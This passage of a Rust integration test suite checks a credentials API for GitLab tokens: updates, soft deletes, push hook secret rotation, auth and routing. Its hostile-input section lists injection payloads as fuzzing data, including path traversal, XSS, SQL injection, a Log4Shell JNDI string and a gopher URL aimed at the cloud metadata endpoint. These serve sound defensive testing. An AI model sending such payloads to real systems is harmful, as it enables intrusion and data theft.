        let tally = SyncTally {
            succeeded: 4,
            commits,
            commits_skipped,
            last_error: error.map(str::to_owned),
        };
        store
            .record_syncs(&connection, &credential, &tally, "2026-11-24T20:05:00Z")
            .await
            .unwrap();
    }
    env.aws
        .dynamodb
        .update_item()
        .table_name(env.aws.table("StateTable"))
        .key("pk", AttributeValue::S(format!("CONN#{CONN}")))
        .key("sk", AttributeValue::S(format!("CRED#{first_id}")))
        .update_expression("SET expiration_date = :d")
        .expression_attribute_values(":d", AttributeValue::S("2001-01-01".into()))
        .send()
        .await
        .unwrap();
    let (_, reply) = send(&env.api, get(&format!("credentials.info/{first_id}"))).await;
    assert_eq!(reply["credential"]["status"], "expired");
    assert_eq!(
        reply["credential"]["last_sync"],
        json!({
            "projects": 12,
            "project_statuses": {"active": 10, "forbidden": 2},
            "discovered_at": "2026-11-24T20:00:00Z",
            "commits": 3456,
            "commits_skipped": 2,
            "last_success_at": "2026-11-24T20:05:00Z",
            "last_error": "forbidden",
            "last_error_at": "2026-11-24T20:05:00Z"
        })
    );
    // An update by the API leaves the summary alone.
    let (status, updated) = send(
        &env.api,
        post(
            "credentials.update",
            &json!({"id": first_id, "label": "renamed", "expiration_date": null}),
        ),
    )
    .await;
    assert_eq!(status, 200, "{updated}");
    assert_eq!(updated["credential"]["last_sync"]["commits"], 3456);
    let (_, second_info) = send(
        &env.api,
        get(&format!(
            "credentials.info/{}",
            second["id"].as_str().unwrap()
        )),
    )
    .await;
    assert_eq!(second_info["credential"]["last_sync"], Value::Null);
}

#[tokio::test]
async fn unknown_connections_and_credentials_are_404() {
    let env = env().await;
    let missing_id = "cred_00000000000000000000000000";
    for req in [
        get("credentials.list"),
        get(&format!("credentials.info/{missing_id}")),
        post(
            "credentials.update",
            &json!({"id": missing_id, "label": "x"}),
        ),
        post("credentials.delete", &json!({"id": missing_id})),
    ] {
        let (status, reply) = send(&env.api, req).await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (404, Some("connection_not_found")),
            "{reply}"
        );
    }
    create(&env, GOOD).await;
    for req in [
        get(&format!("credentials.info/{missing_id}")),
        get("credentials.info/..%2F..%2Fetc"),
        post(
            "credentials.update",
            &json!({"id": missing_id, "label": "x"}),
        ),
        post("credentials.delete", &json!({"id": missing_id})),
    ] {
        let (status, reply) = send(&env.api, req).await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (404, Some("credential_not_found")),
            "{reply}"
        );
    }
    for path in [
        "/connections/has%20space/credentials.list",
        "/connections/a.b/credentials.list",
        &format!("/connections/{}/credentials.list", "x".repeat(65)),
    ] {
        let (status, reply) = send(&env.api, request("GET", path, None, None)).await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (404, Some("connection_not_found")),
            "{path}"
        );
    }
}

// ---------------------------------------------------------------------------------------------------------------
// update

#[tokio::test]
async fn update_reverifies_and_rotates_the_token_in_place() {
    let env = env().await;
    let created = create(&env, GOOD).await;
    let id = created["id"].as_str().unwrap().to_owned();
    let secret_name = format!("{}{CONN}/{id}", env.prefix);

    // Label only: verified again with the stored token, which stays.
    env.sim.reset_counts();
    let (status, reply) = send(
        &env.api,
        post(
            "credentials.update",
            &json!({"id": id, "label": "Renamed", "secrets": {}}),
        ),
    )
    .await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["credential"]["label"], "Renamed");
    assert_eq!(
        reply["credential"]["token_fingerprint"],
        created["token_fingerprint"]
    );
    assert_eq!(reply["credential"]["settings"], created["settings"]);
    assert_eq!(env.sim.request_count(routes::PERSONAL_ACCESS_TOKEN_SELF), 1);

    // Rotation: the same secret gets the new value.
    let (status, reply) = send(
        &env.api,
        post(
            "credentials.update",
            &json!({"id": id, "secrets": {"api_token": ROTATED}, "settings": {"requests_per_minute": 100}}),
        ),
    )
    .await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(
        reply["credential"]["token_fingerprint"],
        SecretString::new(ROTATED).fingerprint()
    );
    assert_eq!(reply["credential"]["label"], "Renamed");
    assert_eq!(reply["credential"]["settings"]["requests_per_minute"], 100);
    assert_eq!(
        token_secrets(&env).await,
        BTreeMap::from([(secret_name, (Some(ROTATED.to_owned()), false))])
    );

    // Clearing with null.
    let (status, reply) = send(
        &env.api,
        post(
            "credentials.update",
            &json!({"id": id, "label": null, "settings": {"requests_per_minute": null}}),
        ),
    )
    .await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["credential"]["label"], Value::Null);
    assert_eq!(
        reply["credential"]["settings"]["requests_per_minute"],
        Value::Null
    );
}

#[tokio::test]
async fn a_failed_update_leaves_the_credential_untouched() {
    let env = env().await;
    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
    let before = stored(&env).await;
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let cases = [
        (
            json!({"id": id, "secrets": {"api_token": NO_SCOPE}}),
            403,
            "invalid_permissions",
        ),
        (
            json!({"id": id, "secrets": {"api_token": UNKNOWN}, "label": "x"}),
            401,
            "invalid_credentials",
        ),
        (
            json!({"id": id, "secrets": {"api_token": NOTHING}}),
            422,
            "no_resources",
        ),
        (
            json!({"id": id, "settings": {"base_url": format!("http://127.0.0.1:{closed}/")}}),
            502,
            "gitlab_unreachable",
        ),
        (
            json!({"id": id, "settings": {"base_url": "ftp://x/"}}),
            400,
            "invalid_settings",
        ),
        (
            json!({"id": id, "secrets": {"api_token": ""}}),
            400,
            "missing_token",
        ),
        (
            json!({"id": id, "expiration_date": "tomorrow"}),
            400,
            "invalid_expiration_date",
        ),
        (json!({"id": id, "label": 7}), 400, "invalid_request"),
    ];
    for (body, expected, code) in cases {
        let (status, reply) = send(&env.api, post("credentials.update", &body)).await;
        assert_eq!(
            (status, reply["error"].as_str()),
            (expected, Some(code)),
            "{body}: {reply}"
        );
    }
    env.sim.fail_next("*", 100, Fault::ServerError(500));
    let (status, reply) = send(
        &env.api,
        post(
            "credentials.update",
            &json!({"id": id, "secrets": {"api_token": ROTATED}}),
        ),
    )
    .await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (502, Some("gitlab_unreachable"))
    );
    assert_eq!(stored(&env).await, before);
}

/// A store where another writer changes the credential between our read and our write.
struct RacingWrites(DynamoCredentialStore, aws_sdk_dynamodb::Client, String);

impl CredentialStore for RacingWrites {
    async fn bind_connection(
        &self,
        c: &ConnectionId,
        base_url: &str,
        at: &str,
    ) -> Result<Option<String>, StoreError> {
        self.0.bind_connection(c, base_url, at).await
    }
    async fn connection_exists(&self, c: &ConnectionId) -> Result<bool, StoreError> {
        self.0.connection_exists(c).await
    }
    async fn insert(&self, r: &CredentialRecord) -> Result<(), StoreError> {
        self.0.insert(r).await
    }
    async fn replace(&self, r: &CredentialRecord, expected: u64) -> Result<(), StoreError> {
        self.1
            .update_item()
            .table_name(&self.2)
            .key("pk", AttributeValue::S(format!("CONN#{}", r.connection_id)))
            .key("sk", AttributeValue::S(format!("CRED#{}", r.credential_id)))
            .update_expression("SET version = version + :one")
            .expression_attribute_values(":one", AttributeValue::N("1".into()))
            .send()
            .await
            .unwrap();
        self.0.replace(r, expected).await
    }
    async fn get(
        &self,
        c: &ConnectionId,
        id: &CredentialId,
    ) -> Result<Option<CredentialRecord>, StoreError> {
        self.0.get(c, id).await
    }
    async fn list(&self, c: &ConnectionId) -> Result<Vec<CredentialRecord>, StoreError> {
        self.0.list(c).await
    }
}

#[tokio::test]
async fn a_concurrent_change_is_a_409_and_the_current_token_stays() {
    let env = env().await;
    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
    let racing = CredentialsApi {
        credentials: Credentials {
            store: RacingWrites(
                DynamoCredentialStore::new(env.aws.dynamodb.clone(), env.aws.table("StateTable")),
                env.aws.dynamodb.clone(),
                env.aws.table("StateTable").to_owned(),
            ),
            vault: SecretsManagerVault::new(env.aws.secrets.clone()),
            verifier: verifier(NetworkPolicy::AllowPrivate),
            secret_name_prefix: env.prefix.clone(),
            default_base_url: env.sim.base_url(),
        },
        commits: commit_log(&env.aws),
        allow_unauthenticated: false,
    };
    let reply = handler(
        &racing,
        post(
            "credentials.update",
            &json!({"id": id, "secrets": {"api_token": ROTATED}}),
        ),
    )
    .await
    .unwrap();
    assert_eq!(reply.status().as_u16(), 409);
    let body: Value = serde_json::from_slice(reply.body().as_ref()).unwrap();
    assert_eq!(body["error"], "conflict");
    let secrets = secrets(&env).await;
    assert_eq!(secrets.values().next().unwrap().0.as_deref(), Some(GOOD));
    let (_, info) = send(&env.api, get(&format!("credentials.info/{id}"))).await;
    assert_eq!(
        info["credential"]["token_fingerprint"],
        SecretString::new(GOOD).fingerprint()
    );
}

// ---------------------------------------------------------------------------------------------------------------
// delete

#[tokio::test]
async fn delete_is_soft_schedules_the_secret_and_hides_the_credential_from_list() {
    let env = env().await;
    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
    let kept = create(&env, ROTATED).await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let (status, reply) = send(&env.api, post("credentials.delete", &json!({"id": id}))).await;
    assert_eq!(status, 200, "{reply}");
    let deleted_at = reply["credential"]["deleted_at"]
        .as_str()
        .unwrap()
        .to_owned();

    let secrets = secrets(&env).await;
    assert_eq!(
        secrets[&format!("{}{CONN}/{id}", env.prefix)],
        (None, true),
        "scheduled"
    );
    assert!(!secrets[&format!("{}{CONN}/{kept}", env.prefix)].1);

    let (_, list) = send(&env.api, get("credentials.list")).await;
    let ids: Vec<_> = list["credentials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].clone())
        .collect();
    assert_eq!(ids, vec![Value::from(kept.clone())]);
    let (_, list) = send(&env.api, get("credentials.list?include_deleted=true")).await;
    assert_eq!(list["credentials"].as_array().unwrap().len(), 2);

    let (status, info) = send(&env.api, get(&format!("credentials.info/{id}"))).await;
    assert_eq!(status, 200);
    assert_eq!(info["credential"]["deleted_at"], deleted_at.as_str());

    let (status, reply) = send(
        &env.api,
        post("credentials.update", &json!({"id": id, "label": "x"})),
    )
    .await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (409, Some("credential_deleted"))
    );

    // Deleting again completes an interrupted delete and changes nothing else.
    let (status, again) = send(&env.api, post("credentials.delete", &json!({"id": id}))).await;
    assert_eq!(status, 200);
    assert_eq!(again["credential"]["deleted_at"], deleted_at.as_str());
}

// ---------------------------------------------------------------------------------------------------------------
// the push hook secret

/// The URL the sample events' request context gives the push hook of [`CONN`].
const HOOK_URL: &str =
    "https://a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com/connections/acme-prod/hooks/gitlab";

/// The connection's push hook secret in Secrets Manager: its current value unless scheduled for deletion, and
/// whether it is (`None`: there is none).
async fn hook_secret(env: &Env) -> Option<(Option<String>, bool)> {
    let name = format!("{}{CONN}/{HOOK_SECRET_SUFFIX}", env.prefix);
    secrets(env).await.remove(&name)
}

fn rotate_hook() -> Request {
    post("hooks.rotate", &json!({}))
}

#[tokio::test]
async fn the_first_create_shows_the_push_hook_secret_once_and_rotation_replaces_it() {
    let env = env().await;
    // given a new connection, when its first credential is created, then the reply shows the hook's URL and
    // secret, which is the current value in Secrets Manager, tagged with the connection and no credential
    let (status, reply) = send(
        &env.api,
        post("credentials.create", &create_body(&env, GOOD)),
    )
    .await;
    assert_eq!(status, 201, "{reply}");
    assert_eq!(reply["push_hook"]["url"], HOOK_URL);
    let first = reply["push_hook"]["secret"].as_str().unwrap().to_owned();
    assert_eq!(first.len(), 64);
    assert!(first.bytes().all(|b| b.is_ascii_hexdigit()));
    assert_eq!(hook_secret(&env).await, Some((Some(first.clone()), false)));
    let described = env
        .aws
        .secrets
        .describe_secret()
        .secret_id(format!("{}{CONN}/{HOOK_SECRET_SUFFIX}", env.prefix))
        .send()
        .await
        .unwrap();
    let tags: BTreeMap<_, _> = described
        .tags()
        .iter()
        .map(|t| (t.key().unwrap(), t.value().unwrap()))
        .collect();
    assert_eq!(
        tags,
        BTreeMap::from([("connection_id", CONN), ("purpose", HOOK_SECRET_SUFFIX)])
    );

    // when a second credential is created, then the reply names the URL only and the secret stays
    let (status, reply) = send(
        &env.api,
        post("credentials.create", &create_body(&env, ROTATED)),
    )
    .await;
    assert_eq!(status, 201, "{reply}");
    assert_eq!(reply["push_hook"], json!({"url": HOOK_URL}));
    assert_eq!(hook_secret(&env).await, Some((Some(first.clone()), false)));

    // when the secret is rotated, then the reply shows a new value, which is the current one
    let (status, reply) = send(&env.api, rotate_hook()).await;
    assert_eq!(status, 200, "{reply}");
    let rotated = reply["push_hook"]["secret"].as_str().unwrap().to_owned();
    assert_ne!(rotated, first);
    assert_eq!(
        reply,
        json!({"ok": true, "push_hook": {"url": HOOK_URL, "secret": rotated}})
    );
    assert_eq!(
        hook_secret(&env).await,
        Some((Some(rotated.clone()), false))
    );
    let read = SecretsManagerVault::new(env.aws.secrets.clone())
        .read(&format!("{}{CONN}/{HOOK_SECRET_SUFFIX}", env.prefix), None)
        .await
        .unwrap();
    assert_eq!(read.expose(), rotated, "what the hook function reads");

    // the URL names a stage other than $default, and is the path alone without a domain (local runs)
    use lambda_http::request::RequestContext;
    let at = |stage: &str, domain: Option<&str>| {
        let req = request(
            "POST",
            &format!("/{stage}/connections/{CONN}/hooks.rotate"),
            None,
            None,
        );
        let RequestContext::ApiGatewayV2(mut context) = req.request_context() else {
            panic!("the samples are API Gateway v2 events");
        };
        context.stage = Some(stage.to_owned());
        context.domain_name = domain.map(str::to_owned);
        req.with_request_context(RequestContext::ApiGatewayV2(context))
    };
    let domain = "hooks.example.com";
    let (status, reply) = send(&env.api, at("prod", Some(domain))).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(
        reply["push_hook"]["url"],
        format!("https://{domain}/prod/connections/{CONN}/hooks/gitlab")
    );
    let (_, reply) = send(&env.api, at("prod", None)).await;
    assert_eq!(
        reply["push_hook"]["url"],
        format!("/connections/{CONN}/hooks/gitlab")
    );
}

#[tokio::test]
async fn deleting_the_last_credential_retires_the_push_hook_secret_and_a_create_renews_it() {
    let env = env().await;
    let (_, reply) = send(
        &env.api,
        post("credentials.create", &create_body(&env, GOOD)),
    )
    .await;
    let one = reply["credential"]["id"].as_str().unwrap().to_owned();
    let first = reply["push_hook"]["secret"].as_str().unwrap().to_owned();
    let two = create(&env, ROTATED).await["id"]
        .as_str()
        .unwrap()
        .to_owned();

    // when one of two credentials is deleted, then the secret stays
    let (status, _) = send(&env.api, post("credentials.delete", &json!({"id": one}))).await;
    assert_eq!(status, 200);
    assert_eq!(hook_secret(&env).await, Some((Some(first.clone()), false)));

    // when the last one is deleted, then it is scheduled for deletion and there is nothing to rotate
    let (status, _) = send(&env.api, post("credentials.delete", &json!({"id": two}))).await;
    assert_eq!(status, 200);
    assert_eq!(hook_secret(&env).await, Some((None, true)));
    let (status, reply) = send(&env.api, rotate_hook()).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (404, Some("connection_not_found"))
    );
    assert_eq!(hook_secret(&env).await, Some((None, true)));

    // when a credential is created again, then the secret is restored with a new value, shown in the reply
    let (status, reply) = send(
        &env.api,
        post("credentials.create", &create_body(&env, GOOD)),
    )
    .await;
    assert_eq!(status, 201, "{reply}");
    let renewed = reply["push_hook"]["secret"].as_str().unwrap().to_owned();
    assert_ne!(
        renewed, first,
        "a value that leaked before does not come back"
    );
    assert_eq!(hook_secret(&env).await, Some((Some(renewed), false)));
}

#[tokio::test]
async fn rotation_needs_a_connection_with_a_credential_and_makes_a_missing_secret() {
    let env = env().await;
    // a connection that never had a credential: 404, and no secret is made
    let (status, reply) = send(&env.api, rotate_hook()).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (404, Some("connection_not_found"))
    );
    let (status, reply) = send(&env.api, get("hooks.rotate")).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (405, Some("method_not_allowed"))
    );
    assert_eq!(hook_secret(&env).await, None);

    // a credential from before push hooks (no hook secret): rotation makes it
    create(&env, GOOD).await;
    let name = format!("{}{CONN}/{HOOK_SECRET_SUFFIX}", env.prefix);
    SecretsManagerVault::new(env.aws.secrets.clone())
        .delete_now(&name)
        .await
        .unwrap();
    assert_eq!(hook_secret(&env).await, None);
    let (status, reply) = send(&env.api, rotate_hook()).await;
    assert_eq!(status, 200, "{reply}");
    let made = reply["push_hook"]["secret"].as_str().unwrap().to_owned();
    assert_eq!(hook_secret(&env).await, Some((Some(made), false)));
}

/// Secrets Manager, except that it cannot make push hook secrets.
struct NoHookSecrets(SecretsManagerVault);

impl SecretVault for NoHookSecrets {
    async fn create(
        &self,
        name: &str,
        value: &SecretString,
        version_id: &str,
        tags: &[(&str, &str)],
    ) -> Result<(), VaultError> {
        if name.ends_with(HOOK_SECRET_SUFFIX) {
            return Err(VaultError::Unavailable {
                operation: "CreateSecret",
                detail: "injected".into(),
            });
        }
        self.0.create(name, value, version_id, tags).await
    }
    async fn read(&self, name: &str, version_id: Option<&str>) -> Result<SecretString, VaultError> {
        self.0.read(name, version_id).await
    }
    async fn stage(
        &self,
        name: &str,
        value: &SecretString,
        version_id: &str,
    ) -> Result<(), VaultError> {
        self.0.stage(name, value, version_id).await
    }
    async fn promote(&self, name: &str, version_id: &str) -> Result<(), VaultError> {
        self.0.promote(name, version_id).await
    }
    async fn restore(&self, name: &str) -> Result<(), VaultError> {
        self.0.restore(name).await
    }
    async fn schedule_deletion(&self, name: &str, days: i64) -> Result<(), VaultError> {
        self.0.schedule_deletion(name, days).await
    }
    async fn delete_now(&self, name: &str) -> Result<(), VaultError> {
        self.0.delete_now(name).await
    }
}

#[tokio::test]
async fn a_push_hook_secret_the_vault_cannot_make_does_not_fail_the_create() {
    let logs = captured_logs();
    let env = env().await;
    let api = CredentialsApi {
        credentials: Credentials {
            store: DynamoCredentialStore::new(
                env.aws.dynamodb.clone(),
                env.aws.table("StateTable"),
            ),
            vault: NoHookSecrets(SecretsManagerVault::new(env.aws.secrets.clone())),
            verifier: verifier(NetworkPolicy::AllowPrivate),
            secret_name_prefix: env.prefix.clone(),
            default_base_url: env.sim.base_url(),
        },
        commits: commit_log(&env.aws),
        allow_unauthenticated: false,
    };
    // when the hook secret cannot be made, then the create succeeds and its reply shows no secret
    let reply = handler(&api, post("credentials.create", &create_body(&env, GOOD)))
        .await
        .unwrap();
    assert_eq!(reply.status().as_u16(), 201);
    let body: Value = serde_json::from_slice(reply.body().as_ref()).unwrap();
    assert_eq!(body["push_hook"], json!({"url": HOOK_URL}));
    assert_eq!(body["credential"]["status"], "active");
    assert_eq!(token_secrets(&env).await.len(), 1);
    assert_eq!(hook_secret(&env).await, None);
    // and the failure is logged as a warning, with the connection
    let warned = logs.json.text().lines().any(|line| {
        serde_json::from_str::<Value>(line).is_ok_and(|l| {
            l["level"] == "WARN"
                && l["connection_id"] == CONN
                && l["message"] == "the push hook secret could not be made; hooks.rotate makes it"
                && l["error"].as_str().is_some_and(|e| e.contains("injected"))
        })
    });
    assert!(warned, "the failure is logged");

    // when the vault works again, then a rotation makes the secret
    let (status, reply) = send(&env.api, rotate_hook()).await;
    assert_eq!(status, 200, "{reply}");
    let made = reply["push_hook"]["secret"].as_str().unwrap().to_owned();
    assert_eq!(hook_secret(&env).await, Some((Some(made), false)));
}

// ---------------------------------------------------------------------------------------------------------------
// routing, auth, bodies

#[tokio::test]
async fn requests_without_iam_authorisation_are_refused_unless_the_local_run_allows_them() {
    let mut env = env().await;
    let mut e = event("list");
    e["requestContext"]
        .as_object_mut()
        .unwrap()
        .remove("authorizer");
    let (status, reply) = send(&env.api, into_request(&e)).await;
    assert_eq!((status, reply["error"].as_str()), (401, Some("not_authed")));
    let mut jwt = event("list");
    jwt["requestContext"]["authorizer"] = json!({"jwt": {"claims": {"sub": "x"}, "scopes": null}});
    let (status, _) = send(&env.api, into_request(&jwt)).await;
    assert_eq!(status, 401);

    env.api.allow_unauthenticated = true;
    let (status, reply) = send(&env.api, into_request(&e)).await;
    assert_eq!(
        (status, reply["error"].as_str()),
        (404, Some("connection_not_found"))
    );
}

#[tokio::test]
async fn routes_methods_sizes_and_encodings_get_json_errors() {
    let env = env().await;
    let cases: Vec<(Request, u16, &str)> = vec![
        (
            request("GET", "/connections/acme-prod/credentials.nope", None, None),
            404,
            "unknown_route",
        ),
        (
            request("GET", "/connections/acme-prod", None, None),
            404,
            "unknown_route",
        ),
        (request("GET", "/", None, None), 404, "unknown_route"),
        (
            request(
                "GET",
                "/connections/acme-prod/credentials.list/extra",
                None,
                None,
            ),
            404,
            "unknown_route",
        ),
        (
            request(
                "GET",
                "/connections/acme-prod/credentials.create",
                None,
                None,
            ),
            405,
            "method_not_allowed",
        ),
        (
            request(
                "POST",
                "/connections/acme-prod/credentials.list",
                None,
                None,
            ),
            405,
            "method_not_allowed",
        ),
        (
            request(
                "DELETE",
                "/connections/acme-prod/credentials.delete",
                None,
                None,
            ),
            405,
            "method_not_allowed",
        ),
        (
            request(
                "POST",
                "/connections/acme-prod/credentials.create",
                Some("application/json"),
                Some("{\"label\":".into()),
            ),
            400,
            "invalid_json",
        ),
        (
            request(
                "POST",
                "/connections/acme-prod/credentials.create",
                Some("application/json"),
                Some("[]".into()),
            ),
            400,
            "invalid_json",
        ),
        (
            request(
                "POST",
                "/connections/acme-prod/credentials.create",
                Some("text/plain"),
                Some("hi".into()),
            ),
            415,
            "unsupported_media_type",
        ),
        (
            request(
                "POST",
                "/connections/acme-prod/credentials.create",
                Some("application/json"),
                Some(format!("{{\"label\":\"{}\"}}", "x".repeat(70_000))),
            ),
            413,
            "body_too_large",
        ),
        (
            request(
                "POST",
                "/connections/acme-prod/credentials.create",
                Some("application/json"),
                None,
            ),
            400,
            "missing_token",
        ),
    ];
    for (req, expected, code) in cases {
        let method = req.method().clone();
        let path = req.raw_http_path().to_owned();
        let reply = handler(&env.api, req).await.unwrap();
        let status = reply.status().as_u16();
        let allow = reply.headers().get("allow").cloned();
        let body: Value = serde_json::from_slice(reply.body().as_ref()).unwrap();
        assert_eq!(
            (status, body["error"].as_str()),
            (expected, Some(code)),
            "{method} {path}: {body}"
        );
        assert_eq!(body["ok"], false);
        if status == 405 {
            assert!(allow.is_some(), "405 names the allowed method");
        }
    }
    assert_eq!(stored(&env).await, (Vec::new(), BTreeMap::new()));
}

// ---------------------------------------------------------------------------------------------------------------
// hostile input

/// Values that are wrong for some field: types, sizes, unicode, injection strings, path tricks.
fn hostile_values() -> Vec<Value> {
    vec![
        Value::Null,
        json!(true),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(u64::MAX),
        json!(""),
        json!("   "),
        json!("\u{0}"),
        json!("ä😀\u{202e}ᚠ𝕏"),
        json!("\u{feff}glpat"),
        json!([]),
        json!([1, "a", null]),
        json!({}),
        json!({"nested": {"deeper": [1, 2, {"x": "y"}]}}),
        json!("../../../etc/passwd"),
        json!("..%2F..%2Fsecret"),
        json!("<script>alert(1)</script>"),
        json!("'; DROP TABLE credentials; --"),
        json!("${jndi:ldap://203.0.113.9/a}"),
        json!("gopher://169.254.169.254/latest/meta-data/"),
        json!("file:///etc/passwd"),
        json!("2030-13-45"),
        json!("x".repeat(10_000)),
        json!("y".repeat(60_000)),
        json!("-----BEGIN CERTIFICATE-----\ngarbage\n-----END CERTIFICATE-----"),
        json!("cred_00000000000000000000000000"),
    ]
}

/// Bodies that are not what they claim to be.
fn broken_bodies() -> Vec<(Option<&'static str>, Vec<u8>)> {
    let json_type = Some("application/json");
    let form = Some("application/x-www-form-urlencoded");
    let mut bodies: Vec<(Option<&'static str>, Vec<u8>)> = vec![
        (json_type, b"{".to_vec()),
        (json_type, b"}".to_vec()),
        (json_type, b"{\"label\":}".to_vec()),
        (json_type, b"{'label':'x'}".to_vec()),
        (json_type, b"null".to_vec()),
        (json_type, b"42".to_vec()),
        (json_type, b"\"string\"".to_vec()),
        (json_type, b"[{\"secrets\":{}}]".to_vec()),
        (json_type, b"{\"a\":1,}".to_vec()),
        (json_type, b"{\"a\":1e999}".to_vec()),
        (json_type, b"{\"a\":\"\\ud800\"}".to_vec()),
        (json_type, vec![0xff, 0xfe, 0x00, 0x7b]),
        (json_type, b"\x00\x00\x00".to_vec()),
        (json_type, "[".repeat(20_000).into_bytes()),
        (
            json_type,
            format!("{}1{}", "{\"a\":".repeat(5_000), "}".repeat(5_000)).into_bytes(),
        ),
        (json_type, vec![b'{'; 70_000]),
        (
            json_type,
            format!("{{\"label\":\"{}\"}}", "z".repeat(66_000)).into_bytes(),
        ),
        (
            json_type,
            b"{\"secrets\":{\"api_token\":\"a\"},\"secrets\":{\"api_token\":\"b\"}".to_vec(),
        ),
        (form, b"%zz=%zz".to_vec()),
        (form, b"settings[base_url][x]=1".to_vec()),
        (form, b"secrets=1&secrets[api_token]=x".to_vec()),
        (form, b"label=a&label=b".to_vec()),
        (form, b"[]=1".to_vec()),
        (form, b"secrets[api_token]=a%20b".to_vec()),
        (form, vec![0xc3, 0x28, b'=', b'1']),
        (form, b"&&&===".to_vec()),
        (form, b"secrets%5Bapi_token%5D=".to_vec()),
        (Some("text/plain"), b"label=x".to_vec()),
        (Some("application/xml"), b"<a/>".to_vec()),
        (Some("multipart/form-data; boundary=x"), b"--x--".to_vec()),
        (Some("application/json; charset=utf-16"), b"{".to_vec()),
        (Some("\u{0}"), b"{}".to_vec()),
    ];
    bodies.push((None, b"not json at all".to_vec()));
    bodies
}

/// Paths that try to reach something else.
fn hostile_paths() -> Vec<String> {
    let mut paths = vec![
        "/".to_owned(),
        "//".to_owned(),
        "/connections".to_owned(),
        "/connections/".to_owned(),
        "/connections//credentials.list".to_owned(),
        "/connections/acme-prod/".to_owned(),
        "/connections/acme-prod/credentials.list/".to_owned(),
        "/connections/acme-prod/../other/credentials.list".to_owned(),
        "/connections/..%2Facme-prod/credentials.list".to_owned(),
        "/connections/acme-prod%00/credentials.list".to_owned(),
        "/connections/acme-prod/credentials.info".to_owned(),
        "/connections/acme-prod/credentials.info/".to_owned(),
        "/connections/acme-prod/credentials.info/../../x".to_owned(),
        "/connections/acme-prod/credentials.info/a/b".to_owned(),
        "/connections/acme-prod/credentials.info/%2e%2e".to_owned(),
        "/connections/acme-prod/CREDENTIALS.LIST".to_owned(),
        "/connections/acme-prod/credentials.list;x=1".to_owned(),
        "/connections/acme-prod/credentials.list%20".to_owned(),
        "/connections/ä😀/credentials.list".to_owned(),
        "/connections/acme prod/credentials.list".to_owned(),
        "/prod/stage/connections/acme-prod/credentials.list".to_owned(),
        "/admin".to_owned(),
        "/connections/acme-prod/credentials.create/extra".to_owned(),
        format!("/connections/{}/credentials.list", "a".repeat(65)),
        format!("/connections/acme-prod/credentials.info/{}", "b".repeat(65)),
        format!("/{}", "c/".repeat(500)),
    ];
    paths.push("/connections/acme-prod/credentials.lis?include_deleted=%ff".to_owned());
    paths
}

fn set_path(body: &mut Value, field: &str, value: Value) {
    match field.split_once('.') {
        None => body[field] = value,
        Some((outer, inner)) => {
            if !body[outer].is_object() {
                body[outer] = json!({});
            }
            body[outer][inner] = value;
        }
    }
}

#[tokio::test]
async fn a_thousand_hostile_requests_get_4xx_json_and_change_nothing() {
    let env = env().await;
    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
    let before = stored(&env).await;
    let sim_url = env.sim.base_url();

    let mut requests: Vec<Request> = Vec::new();
    let fields = [
        "label",
        "settings",
        "settings.base_url",
        "settings.ca_bundle",
        "settings.requests_per_minute",
        "settings.unknown",
        "secrets",
        "secrets.api_token",
        "secrets.other",
        "expiration_date",
        "id",
        "unexpected",
    ];
    for value in hostile_values() {
        for field in fields {
            // create: otherwise valid, but with an unknown token, so nothing can be stored.
            let mut body =
                json!({"settings": {"base_url": sim_url}, "secrets": {"api_token": UNKNOWN}});
            set_path(&mut body, field, value.clone());
            requests.push(post("credentials.create", &body));
            // update of the existing credential, with a token GitLab refuses unless the field is the token.
            let mut body = json!({"id": id, "secrets": {"api_token": UNKNOWN}});
            set_path(&mut body, field, value.clone());
            let keeps_stored_token = field.starts_with("secrets")
                && field != "secrets.api_token"
                && (value.is_null() || value == json!({}));
            if !keeps_stored_token {
                requests.push(post("credentials.update", &body));
            }
            // delete: only an id is accepted, and none of these is the existing one.
            let mut body = json!({"id": format!("{id}-not")});
            set_path(&mut body, field, value.clone());
            requests.push(post("credentials.delete", &body));
            // the same as a form, for string values
            if let Value::String(s) = &value {
                let key = match field.split_once('.') {
                    Some((outer, inner)) => format!("{outer}[{inner}]"),
                    None => field.to_owned(),
                };
                let form: String = url::form_urlencoded::Serializer::new(String::new())
                    .append_pair("secrets[api_token]", UNKNOWN)
                    .append_pair(&key, s)
                    .finish();
                requests.push(request(
                    "POST",
                    &format!("/connections/{CONN}/credentials.create"),
                    Some("application/x-www-form-urlencoded"),
                    Some(form),
                ));
            }
        }
        // The value as the path's id.
        if let Value::String(s) = &value {
            let encoded: String = url::form_urlencoded::byte_serialize(s.as_bytes()).collect();
            requests.push(
                get(&format!("credentials.info/{encoded}"))
                    .with_raw_http_path(format!("/connections/{CONN}/credentials.info/{s}")),
            );
        }
    }
    for route in [
        "credentials.create",
        "credentials.update",
        "credentials.delete",
    ] {
        for (content_type, body) in broken_bodies() {
            let mut req = request(
                "POST",
                &format!("/connections/{CONN}/{route}"),
                content_type.filter(|c| !c.contains('\u{0}')),
                None,
            );
            if let Some(content_type) = content_type
                && let Ok(value) =
                    lambda_http::http::HeaderValue::from_bytes(content_type.as_bytes())
            {
                req.headers_mut().insert("content-type", value);
            }
            *req.body_mut() = lambda_http::Body::Binary(body);
            requests.push(req);
        }
    }
    for path in hostile_paths() {
        for method in ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"] {
            let base = request(
                method,
                "/connections/acme-prod/credentials.list",
                None,
                None,
